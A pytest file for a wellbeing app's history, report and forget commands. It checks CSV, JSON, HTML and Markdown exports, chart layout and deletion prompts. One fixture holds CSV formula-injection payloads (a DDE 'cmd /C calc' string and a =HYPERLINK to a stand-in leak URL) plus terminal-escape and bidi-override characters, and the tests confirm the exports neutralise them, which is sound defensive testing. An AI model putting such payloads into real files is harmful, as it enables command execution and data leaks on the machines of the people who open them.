"""history, report and forget as a person runs them, and each output checked for content."""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest

from regulate.domain.model import Homework, Pack
from regulate.history import COLUMNS, History
from regulate.report import build as report
from regulate.report import chart
from regulate.report.formats import REPORT_FORMATS
from tests.helpers import regulate as run

FIELDS = {
    "pack_id": "starter", "pack_name": "Starter pack", "exercise_id": "notice-the-room",
    "exercise_title": "Notice the room", "exercise_sha256": "ab" * 32, "planned_seconds": 120.0,
}  # fmt: skip
SENSES = {
    **FIELDS,
    "exercise_id": "five-senses",
    "exercise_title": "5-4-3-2-1 senses <b>[bold]</b>",
}


@pytest.fixture
def filled() -> list[tuple[int | None, int | None, str]]:
    """Five sessions over five days, with a preview and a note."""
    now = [dt.datetime(2026, 11, 16, 9, tzinfo=dt.UTC)]
    store = History.open(now=lambda: now[0])
    rows = [
        (3, 6, "completed"),
        (5, 5, "completed"),
        (None, 4, "stopped"),
        (7, 4, "completed"),
        (2, None, "stopped"),
    ]
    for i, (before, after, outcome) in enumerate(rows):
        now[0] = dt.datetime(2026, 11, 16 + i, 9, tzinfo=dt.UTC)
        sid = store.start(**(SENSES if i % 2 else FIELDS), before=before)
        store.finish(sid, outcome=outcome, played_seconds=60.0 * (i + 1), after=after,
                     note="private words" if i == 0 else None)  # fmt: skip
    store.finish(
        store.start(**FIELDS, before=9, preview=True, speed=20),
        outcome="completed",
        played_seconds=6,
    )
    store.close()
    return rows


def test_table_is_for_people(filled) -> None:
    result = run("history")
    lines = result.stdout.splitlines()
    assert result.returncode == 0
    assert lines[0].split() == ["date", "exercise", "before", "->", "after", "time", "how", "it",
                                "ended"]  # fmt: skip
    assert len(lines) == 6  # the preview is left out
    # the same words as the app's history and the report: time as m:ss, never "0.7"
    assert "2 -> -" in lines[1] and "stopped early" in lines[1] and "5:00" in lines[1]
    assert "3 -> 6" in lines[5] and "finished" in lines[5] and "1:00" in lines[5]


def test_csv_parses_back_with_every_field(filled) -> None:
    rows = list(csv.DictReader(io.StringIO(run("history", "--format", "csv").stdout)))
    assert list(rows[0].keys()) == list(COLUMNS)
    assert len(rows) == 5
    oldest = rows[-1]
    assert (oldest["before_rating"], oldest["after_rating"], oldest["note"]) == (
        "3",
        "6",
        "private words",
    )
    assert (
        oldest["exercise_sha256"] == "ab" * 32 and oldest["started_utc"] == "2026-11-16T09:00:00Z"
    )
    with_previews = list(
        csv.DictReader(io.StringIO(run("history", "--format", "csv", "--include-previews").stdout))
    )
    assert len(with_previews) == 6 and with_previews[0]["preview"] == "True"


def test_json_loads_and_filters(filled) -> None:
    data = json.loads(run("history", "--format", "json").stdout)
    assert [d["before_rating"] for d in data] == [2, 7, None, 5, 3]
    assert set(data[0]) == set(COLUMNS)
    since = json.loads(run("history", "--format", "json", "--since", "2026-11-19").stdout)
    assert len(since) == 2
    assert json.loads(run("history", "--format", "json", "--pack", "nope").stdout) == []


def test_bad_date_is_a_sentence() -> None:
    result = run("history", "--since", "yesterday")
    assert result.returncode == 2
    assert "'yesterday' is not a date; write it as YYYY-MM-DD" in result.stderr
    assert "Traceback" not in result.stderr


def test_empty_history() -> None:
    assert run("history").stdout.strip() == "No sessions yet."


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attrs:
            assert not (name in ("src", "href") and value and "://" in value), (tag, name, value)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _svg(page: str) -> ET.Element:
    start, end = page.index("<svg"), page.index("</svg>") + len("</svg>")
    return ET.fromstring(page[start:end])


def test_html_report_is_self_contained_and_its_chart_matches_the_data(
    filled, tmp_path: Path
) -> None:
    out = tmp_path / "r.html"
    result = run("report", "-o", str(out))
    assert (
        result.returncode == 0
        and result.stdout.strip() == f"Your report is in {out}. It holds 5 sessions."
    )
    assert oct(out.stat().st_mode & 0o777) == "0o600"
    page = out.read_text()
    parser = _Collect()
    parser.feed(page)
    assert "script" not in parser.tags and "link" not in parser.tags and "img" not in parser.tags
    text = " ".join(parser.text)
    assert "5-4-3-2-1 senses <b>[bold]</b>" in text  # shown literally, escaped in the source
    assert "<b>[bold]</b>" not in page
    assert "private words" not in page  # notes only when asked
    assert "stopped early" in text and "missed" not in text.lower() and "streak" not in text.lower()
    svg = _svg(page)  # well-formed XML
    ns = "{http://www.w3.org/2000/svg}"
    axis = chart.TimeAxis(
        dt.date.fromisoformat(svg.attrib["data-first"]),
        dt.date.fromisoformat(svg.attrib["data-last"]),
    )
    points: dict[str, dict[int, float]] = {"before": {}, "after": {}}
    days: dict[int, dt.date] = {}
    for circle in svg.iter(f"{ns}circle"):
        if "data-session" in circle.attrib:
            rating = (
                (chart.H - chart.BOTTOM - float(circle.attrib["cy"]))
                * 10
                / (chart.H - chart.TOP - chart.BOTTOM)
            )
            session = int(circle.attrib["data-session"])
            points[circle.attrib["class"]][session] = round(rating, 3)
            days[session] = axis.day_from_x(float(circle.attrib["cx"]))  # read back off the axis
    assert points["before"] == {1: 3, 2: 5, 4: 7, 5: 2}
    assert points["after"] == {1: 6, 2: 5, 3: 4, 4: 4}
    # each point stands on the day it was lived: a real time axis, not one slot per session
    assert days == {i: dt.date(2026, 11, 15 + i) for i in range(1, 6)}
    assert "5 sessions, from 16 Nov 2026 to 20 Nov 2026 (5 days)." in text


def test_notes_only_with_notes(filled, tmp_path: Path) -> None:
    assert "private words" in run("report", "--with-notes", "-o", "-").stdout
    md = run("report", "--format", "md", "--with-notes", "-o", "-").stdout
    assert "private words" in md and "| note |" in md


def test_markdown_carries_the_same_content(filled) -> None:
    md = run("report", "--format", "md", "-o", "-").stdout
    assert md.startswith("# Calm ratings, before and after\n")
    assert "5 sessions, from 16 Nov 2026 to 20 Nov 2026 (5 days). Pack: Starter pack. " in md
    assert "Personal notes are not included." in md
    assert "| 16 Nov 09:00 | 3 | 6 |" in md  # the chart's data, as a table, each at its time
    # the averages are over the one session rated both times (3 -> 6), never a before of
    # (3 + 2) / 2 beside an after of (6 + 4) / 2; the pack is said once, not in every row
    assert "| Notice the room (grounding) | 3 | 1 | 3.0 | 6.0 | +3.0 | 1 | 0 | 0 |" in md
    assert "taken over the sessions rated both before and after" in md
    assert "5-4-3-2-1 senses \\<b\\>\\[bold\\]\\</b\\>" in md  # shown literally
    # the change words of the app (3 -> 6, 7 -> 4, 5 -> 5), from the one function
    assert "a little calmer" in md and "a little less calm" in md and "about the same" in md
    assert "a bit" not in md
    assert "private words" not in md


def test_report_default_file_name(filled, tmp_path: Path) -> None:
    result = run("report", "--format", "md", cwd=tmp_path)
    files = list(tmp_path.glob("regulate-report-*.md"))
    assert result.returncode == 0 and len(files) == 1


def test_homework_in_the_report_is_plain() -> None:
    now = [dt.datetime(2026, 11, 20, 9, tzinfo=dt.UTC)]
    store = History.open(now=lambda: now[0])
    for day in (20, 20, 22):
        now[0] = dt.datetime(2026, 11, day, 9, tzinfo=dt.UTC)
        store.finish(
            store.start(**{**FIELDS, "pack_id": "wk"}, before=4),
            outcome="stopped",
            played_seconds=5,
        )
    pack = Pack(
        id="wk",
        name="Week 3",
        exercises=(),
        homework=Homework(1, "day", dt.date(2026, 11, 20), dt.date(2026, 11, 26)),
    )
    data = report.build(store, {"wk": pack}, today=dt.date(2026, 11, 23))
    (plan,) = data.plans
    assert plan.asked == "once a day, 20 Nov 2026 to 26 Nov 2026"
    # practice as it was done: the days with practice, never a column of noughts against
    # what was asked
    assert [(p.label, p.practised_text) for p in plan.periods] == [
        ("Fri 20 Nov", "2 sessions"),
        ("Sun 22 Nov", "1 session"),
    ]
    assert plan.now == "No sessions yet this week."
    page = REPORT_FORMATS["html"].render(data)
    assert "missed" not in page.lower() and "red" not in page.lower().replace("reduced", "")
    assert "<th>asked</th>" not in page and "Sat 21 Nov" not in page
    markdown = REPORT_FORMATS["md"].render(data)
    homework_part = markdown[markdown.index("## Homework") : markdown.index("## Sessions")]
    assert "| Fri 20 Nov | 2 sessions |" in homework_part and "| 0 |" not in homework_part


def test_forget_asks_and_deletes_only_on_yes(filled) -> None:
    result = run("forget", "--before", "2026-11-18", stdin="\n")
    assert (
        "This deletes 2 sessions from your history: the sessions before 2026-11-18."
        in result.stdout
    )
    assert result.stdout.strip().endswith("Nothing was deleted.")
    assert len(json.loads(run("history", "--format", "json").stdout)) == 5
    result = run("forget", "--before", "2026-11-18", stdin="yes\n")
    assert result.stdout.strip().endswith("Deleted 2 sessions.")
    assert len(json.loads(run("history", "--format", "json").stdout)) == 3
    assert (
        run("forget", "--pack", "nope").stdout.strip()
        == "There are no sessions like that, so nothing was deleted."
    )
    assert (
        run("forget", "--all", "--yes").stdout.strip().endswith("Deleted 4 sessions.")
    )  # the preview too
    assert run("forget").returncode == 2  # says what to forget


def test_forget_with_no_input_keeps_everything(filled) -> None:
    result = run("forget", "--all")  # standard input empty, as from /dev/null
    assert result.stdout.strip().endswith("Nothing was deleted.")


HOSTILE = {
    **FIELDS,
    "pack_id": "week3",
    "pack_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "exercise_id": "look",
    "exercise_title": '=HYPERLINK("http://example.invalid/?leak","Look")\x1b[31m red',
}


def test_exports_a_therapist_opens_hold_no_formula_and_no_escape() -> None:
    now = dt.datetime(2026, 11, 16, 9, tzinfo=dt.UTC)
    store = History.open(now=lambda: now)
    sid = store.start(**HOSTILE, before=3)
    store.finish(sid, outcome="completed", played_seconds=60.0, after=5,
                 note="+1 felt better\n-then worse\u202e evil")  # fmt: skip
    store.close()

    text = run("history", "--format", "csv").stdout
    (row,) = list(csv.DictReader(io.StringIO(text)))
    for column, cell in row.items():
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@")), (column, cell)
    assert row["pack_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["exercise_title"].startswith("'=HYPERLINK(") and "\\x1b[31m" in row["exercise_title"]
    assert row["note"] == "'+1 felt better\n-then worse\\u202e evil"
    assert (row["before_rating"], row["after_rating"]) == ("3", "5")  # numbers stay numbers
    assert "\x1b" not in text and "\u202e" not in text

    table = run("history").stdout
    assert "\x1b" not in table and "\\x1b[31m red" in table
    markdown = run("report", "--format", "md", "--with-notes", "-o", "-").stdout
    assert "HYPERLINK" in markdown and "x1b" in markdown  # the title, its escape shown
    assert "\x1b" not in markdown and "\u202e" not in markdown


@pytest.fixture
def changed() -> None:
    """A therapist changed an exercise (7 s holds to 3 s): the client was dizzy on the first
    version and settled on the second; a week away between; a preview of the new version."""
    now = [dt.datetime(2026, 11, 2, 9, tzinfo=dt.UTC)]
    store = History.open(now=lambda: now[0])
    old = {**FIELDS, "exercise_id": "breathing", "exercise_title": "Breathing 4-6",
           "exercise_sha256": "aa" * 32, "planned_seconds": 300.0}  # fmt: skip
    new = {**old, "exercise_sha256": "bb" * 32}
    for day, fields, before, after in (
        (2, old, 5, 2), (3, old, 4, 2), (17, new, 3, 6), (18, new, 2, 6), (19, FIELDS, 4, 5),
    ):  # fmt: skip
        now[0] = dt.datetime(2026, 11, day, 9, tzinfo=dt.UTC)
        sid = store.start(**fields, before=before)
        if fields is old:
            store.finish(sid, outcome="stopped", played_seconds=130, after=after,
                         stopped_at_step=3, holds_skipped=True)  # fmt: skip
        else:
            store.finish(sid, outcome="completed", played_seconds=fields["planned_seconds"],
                         after=after)  # fmt: skip
    now[0] = dt.datetime(2026, 11, 20, 9, tzinfo=dt.UTC)
    store.finish(store.start(**new, before=9, preview=True, speed=20), outcome="completed",
                 played_seconds=15, after=1)  # fmt: skip


def test_a_changed_exercise_keeps_its_versions_apart_everywhere(changed, tmp_path: Path) -> None:
    out = tmp_path / "r.html"
    run("report", "-o", str(out), "--include-previews", "--name", "Ana")
    page = out.read_text()
    parser = _Collect()
    parser.feed(page)
    text = " ".join(parser.text)
    assert "Calm ratings, before and after: Ana" in text
    assert text.count("Ana") == 2  # the page's title for the browser, and the heading: once
    assert "Made with regulate on" in text and "from 2 Nov 2026 to 20 Nov 2026" in text
    # the table: one row per version, each averaged on its own (never +1.0 for both together)
    rows = re.findall(r'<tr data-exercise="breathing" data-version="(\d)">(.*?)</tr>', page)
    cells = {v: re.findall(r"<td[^>]*>(.*?)</td>", row) for v, row in rows}
    assert cells["1"][0].endswith("version 1, since 2 Nov 2026</span>")
    assert cells["1"][1:] == ["2", "2", "4.5", "2.0", "-2.5", "0", "0", "2"]
    assert cells["2"][0].endswith("version 2, since 17 Nov 2026</span>")
    assert cells["2"][1:] == ["2", "2", "2.5", "6.0", "+3.5", "2", "0", "0"]  # not the preview
    # the sessions say which version, where a stop came, and that holds were skipped
    assert "Breathing 4-6 (version 1)" in text and "Breathing 4-6 (version 2)" in text
    assert "stopped early, in step 3, at 2:10 of 5:00; holds skipped" in text
    assert "preview at 20x speed: finished" in text and "class=preview" in page
    # the chart: each point knows its version; a marked line where version 2 began
    svg = _svg(page)
    ns = "{http://www.w3.org/2000/svg}"
    versions = {
        (c.attrib["data-day"], c.attrib["data-version"])
        for c in svg.iter(f"{ns}circle")
        if "data-session" in c.attrib
    }
    assert versions == {
        ("2026-11-02", "1"),
        ("2026-11-03", "1"),
        ("2026-11-17", "2"),
        ("2026-11-18", "2"),
        ("2026-11-19", "1"),
    }  # fmt: skip (no preview)
    (mark,) = [line for line in svg.iter(f"{ns}line") if line.attrib.get("class") == "version"]
    assert mark.attrib["data-day"] == "2026-11-17"
    assert "Breathing 4-6: version 2" in "".join(svg.itertext())
    # the week away is a week of nothing, and the weekly lines break there
    assert "<td class=when>9 Nov 2026</td><td class=num>0</td><td class=num>0</td>" in page
    weeks = {line.attrib["data-week"] for line in svg.iter(f"{ns}line")
             if line.attrib.get("class") == "week-after"}  # fmt: skip
    assert "2026-11-09" not in weeks and {"2026-11-02", "2026-11-16"} <= weeks
    md = run("report", "--format", "md", "-o", "-", "--include-previews").stdout
    assert (
        "| Breathing 4-6 (kind unknown; version 1, since 2 Nov 2026) | 2 | 2 | 4.5 | 2.0 | -2.5 "
        "| 0 | 0 | 2 |" in md
    )
    assert (
        "| Breathing 4-6 (kind unknown; version 2, since 17 Nov 2026) | 2 | 2 | 2.5 | 6.0 | +3.5 "
        "| 2 | 0 | 0 |" in md
    )
    assert "| 9 Nov 2026 | 0 | 0 | 0 | - | - | - | 0 | 0 | 0 |" in md
    assert "From 17 Nov 2026: Breathing 4-6: version 2." in md


def _date_labels(first: dt.date, last: dt.date) -> list[ET.Element]:
    svg = ET.fromstring(chart.chart_svg([], [], [], first, last, daily=False))
    ns = "{http://www.w3.org/2000/svg}"
    return [
        t
        for t in svg.iter(f"{ns}text")
        if float(t.attrib.get("y", 0)) == chart.H - chart.BOTTOM + 18
    ]


@pytest.mark.parametrize(
    "first, days",
    [(dt.date(2026, 1, 1), d) for d in (1, 2, 7, 10, 11, 30, 51, 120, 184, 400, 1825, 2500)]
    # a clock once set to 1970, and a hand-written row from the year 1
    + [(dt.date(1970, 1, 1), 20_800), (dt.date(1, 1, 1), 739_900)],
)
def test_the_charts_date_labels_never_overlap(first: dt.date, days: int) -> None:
    last = first + dt.timedelta(days=days - 1)
    labels = _date_labels(first, last)
    xs = [float(t.attrib["x"]) for t in labels]
    assert labels and xs == sorted(xs)
    assert all(b - a >= chart.MIN_LABEL_GAP - 0.5 for a, b in itertools.pairwise(xs)), xs
    assert all(chart.LEFT <= x <= chart.W - chart.RIGHT for x in xs)


@pytest.mark.parametrize("days", [184, 400, 1825, 20_800])
def test_a_chart_over_more_than_half_a_year_names_the_years(days: int) -> None:
    """'19 Jun' under a chart of five years could be any of them."""
    first = dt.date(2021, 3, 3)
    last = first + dt.timedelta(days=days - 1)
    texts = [t.text or "" for t in _date_labels(first, last)]
    assert texts and all(re.search(r"\b\d{4}\b", text) for text in texts), texts
    years = {int(re.search(r"\d{4}", text).group()) for text in texts}  # type: ignore[union-attr]
    assert min(years) >= first.year and max(years) <= last.year


def _marks(svg: ET.Element) -> tuple[list[ET.Element], list[ET.Element]]:
    ns = "{http://www.w3.org/2000/svg}"
    circles = [c for c in svg.iter(f"{ns}circle") if "data-rating" in c.attrib]
    lines = [line for line in svg.iter(f"{ns}line") if "legend" not in line.attrib.get("class", "")]
    return circles, lines


def test_every_mark_of_the_chart_is_inside_the_plot_and_weeks_are_levels() -> None:
    """A first day on a Thursday: the week's average is a level from that Thursday on,
    never a line starting left of the plot (it once began at x=-214, across the label)."""
    first = dt.date(2026, 11, 19)  # a Thursday
    last = dt.date(2026, 12, 4)
    points = [chart.ChartPoint(dt.datetime(2026, 11, 19, 9), 3, 6, 1),
              chart.ChartPoint(dt.datetime(2026, 12, 3, 20), 4, 7, 2)]  # fmt: skip
    weeks = [
        chart.WeekPoint(dt.date(2026, 11, 16), 3, 6),
        chart.WeekPoint(dt.date(2026, 11, 30), 4, 7),
    ]
    svg = ET.fromstring(chart.chart_svg(points, weeks, [], first, last, daily=False))
    circles, lines = _marks(svg)
    xs = [float(c.attrib["cx"]) for c in circles]
    xs += [float(line.attrib[k]) for line in lines for k in ("x1", "x2")]
    assert all(chart.LEFT <= x <= chart.W - chart.RIGHT for x in xs), xs
    levels = [line for line in lines if line.attrib.get("class") == "week-before"]
    assert all(line.attrib["y1"] == line.attrib["y2"] for line in levels)  # a level, not a slope
    first_week = next(line for line in levels if line.attrib["data-week"] == "2026-11-16")
    assert float(first_week.attrib["x1"]) == pytest.approx(chart.LEFT)


def test_sessions_of_one_day_each_stand_apart_with_their_own_pair() -> None:
    day = dt.date(2026, 12, 4)
    points = [chart.ChartPoint(dt.datetime(2026, 12, 4, 9, minute), 2 + i, 5 + i, 10 + i)
              for i, minute in enumerate((0, 10, 20))]  # fmt: skip
    for first in (day, day - dt.timedelta(days=40)):  # alone, and in a long span
        svg = ET.fromstring(chart.chart_svg(points, [], [], first, day, daily=False))
        circles, lines = _marks(svg)
        at = {}
        for c in circles:
            at.setdefault(c.attrib["data-session"], set()).add(c.attrib["cx"])
        assert all(len(xs) == 1 for xs in at.values())  # before and after share their x
        xs = sorted(float(next(iter(v))) for v in at.values())
        assert len(xs) == 3 and all(
            b - a >= chart.MIN_POINT_GAP - 0.01 for a, b in itertools.pairwise(xs)
        )
        changes = [line for line in lines if line.attrib.get("class") == "change"]
        assert len(changes) == 3  # each before joined to its own after


def test_a_single_days_label_stands_under_its_sessions() -> None:
    day = dt.date(2026, 12, 4)
    points = [chart.ChartPoint(dt.datetime(2026, 12, 4, 12), 3, 6, 1)]
    svg = ET.fromstring(chart.chart_svg(points, [], [], day, day, daily=False))
    ns = "{http://www.w3.org/2000/svg}"
    (label,) = [t for t in svg.iter(f"{ns}text")
                if float(t.attrib.get("y", 0)) == chart.H - chart.BOTTOM + 18]  # fmt: skip
    (dot,) = [
        c
        for c in svg.iter(f"{ns}circle")
        if c.attrib.get("class") == "after" and "data-rating" in c.attrib
    ]
    assert label.text == "4 Dec"
    assert abs(float(label.attrib["x"]) - float(dot.attrib["cx"])) < 2


def test_a_long_history_written_as_it_is_read_is_the_same_as_all_at_once() -> None:
    """`history` writes each session as SQLite finds it (its first line at once, however long
    the history): the table still lines up every row as if it had seen them all first, and
    json and csv are the whole history, newest first."""
    from regulate.history import table_headings, table_rows
    from regulate.report.formats import lined_up

    moment = [dt.datetime(2025, 1, 1, 8, tzinfo=dt.UTC)]
    store = History.open(now=lambda: moment[0])
    titles = ["Look", "A much longer title than the others, far along the history", "Feet"]
    for i in range(1300):  # more than one batch of 500, with the longest title in the middle
        moment[0] += dt.timedelta(hours=7)
        title = titles[1] if i == 650 else titles[i % 2 * 2]
        sid = store.start(**{**FIELDS, "exercise_title": title}, before=i % 11)
        store.finish(sid, outcome="completed", played_seconds=4000 if i == 900 else 61.0,
                     after=(i * 7) % 11)  # fmt: skip
    everything = store.sessions()
    store.close()
    table = run("history")
    assert table.returncode == 0 and table.stderr == ""
    assert table.stdout.splitlines() == lined_up([table_headings(), *table_rows(everything)])
    assert "1:06:40" in table.stdout  # the longest time, its column wide enough
    data = run("history", "--format", "json").stdout
    assert data == json.dumps([s.as_dict() for s in everything], indent=1) + "\n"
    rows = list(csv.DictReader(io.StringIO(run("history", "--format", "csv").stdout)))
    assert [int(r["id"]) for r in rows] == [s.id for s in everything]


@pytest.mark.parametrize("form", ["table", "csv", "json"])
def test_history_shows_its_first_lines_before_it_has_read_the_last_session(
    form: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A person with years of history sees the first lines at once: by the time the last
    session is read from the file, most of the others are already on the screen."""
    from regulate.cli.entry import main
    from regulate.history.queries import Queries

    moment = [dt.datetime(2025, 1, 1, 8, tzinfo=dt.UTC)]
    with History.open(now=lambda: moment[0]) as store:
        for i in range(1200):
            moment[0] += dt.timedelta(hours=5)
            store.finish(store.start(**FIELDS, before=i % 11), outcome="completed",
                         played_seconds=60.0, after=5)  # fmt: skip
    written_when_last_read: list[int] = []
    reading = Queries.each_session

    def watched(self: Queries, *args: object, **kwargs: object):  # type: ignore[no-untyped-def]
        for n, session in enumerate(reading(self, *args, **kwargs), 1):  # type: ignore[arg-type]
            if n == 1200:
                written_when_last_read.append(len(capsys.readouterr().out.splitlines()))
            yield session

    monkeypatch.setattr(Queries, "each_session", watched)
    capsys.readouterr()
    assert main(["history", "--format", form]) == 0
    assert written_when_last_read and written_when_last_read[0] > 1000
